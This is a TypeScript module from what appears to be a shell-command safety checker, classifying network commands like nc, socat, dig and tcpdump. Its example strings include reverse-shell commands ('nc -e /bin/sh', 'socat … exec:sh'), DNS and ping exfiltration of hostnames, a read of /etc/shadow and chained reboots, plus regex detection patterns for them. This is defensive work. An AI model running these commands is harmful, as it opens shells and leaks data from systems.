/** Network state and probes. */
import { type Call, ex, type Family } from "../call.ts";
import { checkHost } from "../kinds.ts";
import { ip } from "../lang/ip.ts";
import { carriesHostData, emptied, isOwnName } from "../words.ts";
import { probe } from "./probes.ts";

function dns(call: Call): void {
  const w = call.args.map(emptied);
  if (call.args.length === 0 && call.name === "nslookup") {
    call.report("interactive");
    return;
  }
  if (w.includes("-") && call.name === "nslookup") call.report("interactive");
  for (const [i, a] of call.args.entries()) {
    if (w[i] === "-f" || w[i] === "-k") call.report("unknown-config", a);
    // Its own name tells the resolver of this host nothing.
    const server = w.some((x) => x.startsWith("@")) || (call.name !== "dig" && call.args.length > 1);
    if (carriesHostData(a) && !(isOwnName(a) && !server))
      call.report(a.segs.length > 1 || w.some((x) => x.startsWith("@")) ? "exfil" : "dynamic-argument", a);
    if (/^a?xfr$/i.test(w[i] ?? "")) call.report("heavy-load", a);
  }
}

/** True when a service is sent one word it answers with its state, and the wait for the answer has an end. */
function asksState(call: Call, words: readonly string[]): boolean {
  const word =
    /^(ruok|stat|srvr|mntr|isro|stats( (items|slabs|settings))?|version|ping|PING|info|INFO)(\r?\n)?(quit\r?\n)?$/;
  return (
    /^(nc|ncat|netcat)$/.test(call.name) &&
    !call.ctx.stdin.host &&
    word.test(call.ctx.stdin.text ?? "") &&
    /^(-N |-v )*(-[wq] ?[1-9]\d? )(-N |-v |-[wq] ?[1-9]\d? )*[\w.:-]+ \d{1,5}$/.test(words.join(" "))
  );
}

function netcat(call: Call): void {
  const w = call.args.map(emptied);
  const j = w.join(" ");
  if (w.some((x) => /^-[a-zA-Z]*[ec]$/.test(x) && !/z/.test(x)) || /--(sh-)?exec|--lua-exec/.test(j)) {
    call.report("remote-shell");
    return;
  }
  if (w.some((x) => /^-[a-zA-Z]*l|^--listen/.test(x))) {
    call.report("remote-shell");
    return;
  }
  if (w.some((x) => /^-[a-zA-Z]*z/.test(x))) {
    const host = call.args.find(
      (a, i) => !emptied(a).startsWith("-") && !/^-[a-zA-Z]*[wisp]$/.test(w[i - 1] ?? ""),
    );
    if (host) checkHost(call.ctx, host, true);
    return;
  }
  const host = call.args.find(
    (a, i) => !emptied(a).startsWith("-") && !/^-[a-zA-Z]*[wispqxX]$/.test(w[i - 1] ?? ""),
  );
  if (host) checkHost(call.ctx, host, true);
  if (asksState(call, w)) return;
  if (call.ctx.stdin.host && call.ctx.session.reasons.some((r) => r.code === "egress-unknown"))
    call.report("exfil");
  call.report("egress-unknown");
}

export const network: Family = {
  name: "network",
  specs: [
    {
      names: "ip",
      style: "free",
      args: "text",
      loose: true,
      closed: "options",
      check: ip,
      examples: ex(
        "ip a ¦ ip -s link ¦ ip route get 10.0.0.1 ¦ ip -br addr ¦ ip netns exec blue ss -tln",
        "ip addr add 10.0.0.9/24 dev lo ¦ ip route add 10.1.0.0/16 via 10.0.0.1",
        "ip link set eth0 down ¦ ip netns exec x reboot",
      ),
    },
    {
      names: "ss",
      flags:
        "-hVnraletomipsbZzN64042tudwxSMHQOTE0 -f: -A: -N: -K!process-change --kill!process-change -D:!write-file --diag:!write-file -F:read --filter:read -E!unbounded --events!unbounded --numeric --resolve --all --listening --options --extended --memory --processes --info --summary --tcp --udp --unix --tos --cgroup --no-header --oneline --family: --query: --ipv4 --ipv6 --version --raw --packet --dccp --sctp --vsock --bpf --context --net: --threads",
      args: "text",
      examples: ex(
        "ss -tlnp ¦ ss -s ¦ ss -tan state established '( dport = :443 )' ¦ ss -tnoiH dst 10.0.0.1",
        "ss -K dst 1.2.3.4 ¦ ss -D /tmp/x",
        "ss -F /etc/shadow",
      ),
    },
    {
      names: "netstat",
      flags:
        "-rnatulpsiegoMWvNx46FCZc -c!unbounded -A: -I: --tcp --udp --listening --numeric --program --programs --groups --symbolic --all --route --interfaces? --statistics --extend --wide --numeric-ports --numeric-hosts --timers --continuous!unbounded",
      args: "-",
      examples: ex("netstat -tulpn ¦ netstat -i", "netstat -c", "netstat; reboot"),
    },
    {
      names: "route arp",
      mixed: true,
      flags:
        "-rnatulpsiegoMWvNx46FCZ -c!unbounded -A: -i: --tcp --udp --listening --numeric --programs --all --route --interfaces? --statistics --extend --wide -d:!network-change -s",
      args: "-",
      check: (c) => {
        if (c.name !== "netstat" && c.operands.length > 0) {
          if (/del/.test(c.args.map(emptied).join(" ")) && c.name === "route") c.report("lockout");
          c.report("network-change");
        }
      },
      examples: ex("route -n ¦ arp -an", "route add default gw 10.0.0.1", "route del default"),
    },
    {
      names: "ifconfig",
      style: "free",
      args: "text",
      check: (c) => {
        const w = c.args.map(emptied);
        if (w.length === 0 || w.length === 1) return;
        if (w.includes("down")) c.report("lockout");
        c.report("network-change");
      },
      examples: ex("ifconfig ¦ ifconfig -a ¦ ifconfig eth0", "ifconfig eth0 mtu 1400", "ifconfig eth0 down"),
    },
    {
      names: "ifdown ifup ifquery",
      style: "free",
      args: "text",
      check: (c) => {
        if (
          c.name === "ifquery" &&
          c.args.every((a) => /^(--list|-l|-a|--all|--state|[a-z][\w.:-]*)$/.test(emptied(a)))
        )
          return;
        c.report(c.name === "ifdown" ? "lockout" : "network-change");
      },
      examples: ex("ifquery --list", "ifup eth0", "ifdown eth0"),
    },
    {
      names: "ethtool mii-tool",
      flags:
        "-S -i -k -g -c -l -a -T -m -d -x -n -P -u -v -w!write-file --statistics --driver --show-offload --show-ring --show-channels --show-coalesce --show-pause --show-features --show-priv-flags --show-eee --module-info --json -I -K!network-change -G!network-change -A!network-change -s!network-change -C!network-change -L!network-change -t!network-change -p!network-change -r!network-change -E!destroy -e -f!network-change -U!network-change -X!network-change -N!network-change",
      style: "single",
      args: "text",
      examples: ex(
        "ethtool eth0 ¦ ethtool -S eth0 ¦ ethtool -i eth0",
        "ethtool -K eth0 gro off ¦ ethtool -s eth0 speed 100",
        "ethtool eth0; reboot",
      ),
    },
    {
      names: "nstat ifstat rtstat lnstat",
      flags: "-azsjpnd -c:num -k: --dump --count:num --json --zeros --noupdate --ignore --pretty --nooutput",
      args: "text",
      check: (c) => {
        if (c.name === "nstat" || c.ctx.bounded) {
          if (c.has("-d") && c.name === "nstat") c.report("background");
          return;
        }
        const rounds = c.value("-c", "--count");
        if (
          /^(rt|ln)stat$/.test(c.name) &&
          (c.has("-d", "--dump") || (rounds && Number(emptied(rounds)) <= 60))
        )
          return;
        if (c.operands.length < 2) c.report("unbounded");
      },
      examples: ex("nstat -az TcpRetransSegs ¦ nstat", "nstat -d 5", "nstat; reboot"),
    },
    {
      names:
        "ipset conntrack tc bridge nmcli teamdctl ovs-vsctl ovs-ofctl brctl wg lldpctl lldpcli iw iwconfig netplan dhclient bmon",
      style: "free",
      args: "text",
      loose: true,
      closed: "options",
      check: (c) => {
        const j = c.args.map(emptied).join(" ");
        const ok: Record<string, RegExp> = {
          ipset: /^(-n )?(-?list|-L|--list|test)( (-n|-t|-s|-name|-terse|-sorted|\w[\w.:/,-]*))*$/,
          conntrack:
            /^(-[LSC]|--(dump|stats|count))( (conntrack|expect)| -([spdortgnjfum]|-(src|dst|orig-\w+|reply-\w+|proto|state|family|status|sport|dport))[= ][\w.:/,-]+| -(o|-output) [\w,]+| -[ng])*$/,
          tc: /^(-(s|d|r|p|j|c|n|iec|stats|details|statistics|color|nm|graph|g|json|pretty) )*(qdisc|class|filter)( (show|list|ls)( [\w.:-]+)*)?$/,
          bridge:
            /^(-(s|d|j|p|c|stats|details|json|color|t|o) )*(link|fdb|vlan|mdb)( (show|list)( [\w.:-]+)*)?$/,
          nmcli:
            /^((-[tpgv]|-[fgcm] [\w.,-]+|--(terse|pretty|version)|--fields [\w.,-]+) )*((d|dev|device)( (s|status|show( [\w.-]+)?|wifi( list)?))?|(c|con|connection)( (s|show)( --active)?( \w[\w.-]*)*)?|(g|general)( (s|status|permissions))?|(n|networking)( connectivity)?|(r|radio)( (all|wifi|wwan))?)?$/,
          "ovs-vsctl": /^((--(format|columns|if-exists)(=\S+)? )*(show|list|list-\w+|get))( \w[\w.:,-]*)*$/,
          "ovs-ofctl": /^(show|dump-\w+)( (-O \w+|[\w.:,/=-]+))*$/,
          brctl: /^show\w*( [\w.-]+)?$/,
          wg: /^(show( [\w.-]+( (peers|endpoints|latest-handshakes|transfer|listen-port|public-key|allowed-ips|persistent-keepalive|fwmark))?)?|)$/,
          teamdctl: /^[\w.-]+ state( (view|dump))?$/,
          lldpctl: /^(|[a-z]\w*)$/,
          lldpcli:
            /^show (neighbors|interfaces|chassis|statistics|configuration|running-configuration)( (summary|details|ports|[a-z]\w*))*$/,
          iw: /^(dev( \w+ (link|info|station dump))?|list|phy)$/,
          iwconfig: /^\w*$/,
          netplan: /^(get|status|info)( (--all|-a|[\w.]+))*$/,
          dhclient: /^--version$/,
        };
        if (ok[c.name]?.test(j)) return;
        if (/ (down|disconnect)\b|networking off|networking off/.test(` ${j}`) && c.name === "nmcli")
          c.report("lockout");
        if (c.name === "conntrack" && /-E/.test(j)) c.report("unbounded");
        if (
          (c.name === "wg" && /^(showconf|show .*(private-key|preshared-keys|dump)|genkey_x)/.test(j)) ||
          (c.name === "nmcli" && /--show-secrets|(^| )-\w*s( |$)/.test(j))
        )
          c.report("credential");
        if (c.name === "nmcli" && /^(r|radio|n|networking)\b.*\boff\b/.test(j)) c.report("lockout");
        c.report("network-change", undefined, `${c.name} ${j}`);
      },
      examples: ex(
        "conntrack -L ¦ tc -s qdisc show dev eth0 ¦ nmcli dev status ¦ lldpctl ¦ bridge fdb show",
        "conntrack -D -s 1.2.3.4 ¦ tc qdisc del dev eth0 root ¦ netplan apply",
        "nmcli con down eth0 ¦ wg showconf wg0",
      ),
    },
    {
      names: "ping ping6 arping fping mtr tracepath tracepath6",
      mixed: true,
      flags:
        "-46nqRvdDaObUrTIAewzeu -c:num -w:num -W:num -i:num -s:num -I: -M: -t:num -m:num -Q: -p: -S: -l:num!heavy-load -f!heavy-load --report --report-wide --report-cycles: --count: --no-dns --tcp --udp --port: --interval: -j --json -x -C",
      args: "text",
      check: probe,
      examples: ex(
        "ping -c 3 10.0.0.1 ¦ mtr -r -c 5 10.0.0.1 ¦ traceroute -n 10.0.0.1 ¦ ping -c1 -W2 web1",
        "ping 10.0.0.1 ¦ mtr 10.0.0.1 ¦ ping -f 10.0.0.5 -c 5",
        "ping -c 1 -p $(cat /etc/hostname) 203.0.113.4",
      ),
    },
    {
      names: "traceroute traceroute6 tcptraceroute",
      flags:
        "-46ndITFUDVeEAS -m:num -w: -q:num -f:num -p:num -i: -s: -t:num -g: -N:num -z: -P: -M: -l: -O:!unknown-operand --max-hops:num --wait: --queries:num --port:num --icmp --tcp --udp --resolve-hostnames --mtu --version --help",
      args: "text",
      check: probe,
      examples: ex(
        "traceroute -n -q 1 10.0.0.1 ¦ tcptraceroute web1 443",
        "traceroute -O x web1",
        "traceroute $(hostname).x.example.net",
      ),
    },
    {
      names: "dig host nslookup drill kdig delv dog",
      style: "free",
      args: "text",
      loose: true,
      check: dns,
      examples: ex(
        "dig +short example.org ¦ host web1 ¦ nslookup a.example.org 10.0.0.2",
        "nslookup ¦ dig -f /tmp/x",
        "dig $(hostname).x.example.net",
      ),
    },
    {
      names: "whois",
      flags: "-HIBcdlLmMGrRxX -h:outhost -p:num -i: -T: -s: --verbose --version --help",
      args: "name-lookup",
      examples: ex("whois example.com", "whois -h 203.0.113.7 x", "whois example.com; reboot"),
    },
    {
      names: "nc ncat netcat telnet socat",
      style: "free",
      args: "text",
      loose: true,
      closed: "options",
      check: (c) => {
        if (c.name === "socat") {
          const j = c.args.map(emptied).join(" ");
          const asks =
            /^((stdio|-) (unix(-connect)?:)?\/[\w/.-]*haproxy[\w/.-]*(sock(et)?|stats?)|(unix(-connect)?:)?\/[\w/.-]*haproxy[\w/.-]*(sock(et)?|stats?) (stdio|-))$/i;
          if (
            asks.test(j) &&
            (c.ctx.stdin.text ?? "").trim() !== "" &&
            (c.ctx.stdin.text ?? "")
              .split(/[;\n]/)
              .every((l) =>
                /^\s*(show (stat|info|errors|sess|servers state|servers conn|backend|table|pools|activity|threads|version|resolvers)( [\w.-]+)*|help|prompt_x)?\s*$/.test(
                  l,
                ),
              )
          )
            return;
          return c.report(
            /exec|system|listen|pty/i.test(j) ||
              c.args.some(
                (a) =>
                  /tcp|udp|openssl/i.test(emptied(a)) && !/127\.0|localhost|:10\.|:192\.168/.test(emptied(a)),
              )
              ? "remote-shell"
              : "egress-unknown",
          );
        }
        if (c.name === "telnet") {
          if (c.args[0]) checkHost(c.ctx, c.args[0], true);
          if (c.ctx.stdin.text?.includes("!")) c.report("side-door");
          return c.report("interactive");
        }
        netcat(c);
      },
      examples: ex(
        "nc -zv 10.0.0.5 443 ¦ nc -z -w 2 localhost 80",
        "telnet 10.0.0.1 25",
        "nc -e /bin/sh 203.0.113.4 1 ¦ nc -lvp 44 ¦ socat tcp:203.0.113.1:9 exec:sh",
      ),
    },
    {
      names: "tcpdump dumpcap ngrep",
      mixed: true,
      flags:
        "-nNvqeEtXxASlKLpDUOdHIfuQ -i: -c:num -s:num -B:num -A -G:!write-file -C:!write-file -W:!write-file -w:write -r:read -z:!side-door -F:!unknown-config -Z:!account-use -Y: -T: -f: -e: -a: --interface: --snapshot-length: --count",
      args: "text",
      check: (c) => {
        if (c.has("-I")) c.report("network-change");
        // Raw packets are contents, wherever they go.
        if (c.has("-w")) c.report("sensitive-read");
        // Without -w it writes a file of its own below /tmp.
        if (c.name === "dumpcap" && !c.has("-D", "-L")) c.report("write-file");
        if (!c.has("-c") && !c.has("-r") && !c.has("-D") && !c.ctx.bounded) c.report("unbounded");
        else if (c.has("-A", "-X", "-x")) c.report("sensitive-read");
      },
      examples: ex(
        "timeout 20 tcpdump -c 50 -nn -i eth0 port 80 ¦ tcpdump -D",
        "tcpdump -i eth0 ¦ tcpdump -c 5 -w /tmp/x ¦ tcpdump -c 5 -w - ¦ tcpdump -f -w /tmp/x -c 5 ¦ dumpcap -c 5",
        "tcpdump -c 1 -z /tmp/x -w /tmp/y",
      ),
    },
    {
      names: "tshark",
      flags:
        "-nNVlqDpPQ2 -i: -c:num -s:num -B:num -a: -f: -Y: -T: -e: -E: -t: -z: -d: -r:read -w:write -b:!write-file -X:!side-door -K:!credential -o:!unknown-config -G:!unknown-operand -F: -O: -x!sensitive-read --version",
      args: "text",
      check: (c) => {
        if (!c.has("-c", "-r", "-D", "--version") && !c.ctx.bounded) c.report("unbounded");
      },
      examples: ex(
        "tshark -D ¦ tshark -r /tmp/a.pcap -q -z conv,tcp ¦ tshark -i eth0 -c 10 port 53",
        "tshark -i eth0 ¦ tshark -c 1 -w /tmp/x",
        "tshark -c 1 -Xlua_script:/tmp/x",
      ),
    },
    {
      names: "nmap masscan hping3 iperf3 iperf ab wrk hey siege zmap",
      style: "free",
      args: "text",
      check: (c) => {
        const j = c.args.map(emptied).join(" ");
        if (/--script(-args)?[= ]?(?!default|safe)\S*[/.]|--interactive/.test(j)) c.report("side-door");
        if (/--version|^-V$/.test(j)) return;
        c.report("heavy-load", undefined, `${c.name} ${j}`);
      },
      examples: ex(
        "nmap --version",
        "nmap -sV 10.0.0.0/24 ¦ iperf3 -c 10.0.0.1",
        "nmap --script=/tmp/x.nse localhost",
      ),
    },
  ],
};
